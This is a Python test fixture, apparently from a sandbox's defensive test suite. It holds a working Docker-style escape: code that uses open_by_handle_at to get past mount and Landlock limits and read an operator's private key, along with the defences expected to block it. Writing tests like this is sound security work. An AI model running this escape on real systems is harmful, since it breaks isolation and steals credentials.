"""Open the file system's root by its handle, around every mount, and read the operator's key.

Landlock does not stop it: what is reached so lies above the root of the scratch folder's mount, and newer Linux takes the
rules of that root for it, which allow everything.
"""

from tests.attacks.attack import Attack

ATTACK = Attack(
    code="""
import ctypes
import os

def attack(hand, given):
    if os.stat("/").st_dev != os.stat(hand.scratch).st_dev:
        raise NotADirectoryError("the scratch folder lies in another file system than /")
    handle = ctypes.create_string_buffer(b"\\x40\\0\\0\\0" + bytes(132))  # handle_bytes, handle_type, handle
    mount = ctypes.c_int()
    syscall("name_to_handle_at", -100, b"/", handle, ctypes.byref(mount), 0)
    scratch = os.open(hand.scratch, os.O_RDONLY)
    root = syscall("open_by_handle_at", scratch, handle, os.O_RDONLY)
    key = os.open(given["home"].lstrip("/") + "/keys/operator.key", os.O_RDONLY, dir_fd=root)
    return os.read(key, 100)
""",
    stopped_by=("seccomp", "capabilities", "user-id"),
    refused="PermissionError 1",
    got=lambda found, given: isinstance(found, bytes) and len(found) >= 40,
    source="shocker.c, the first known escape from Docker",
)
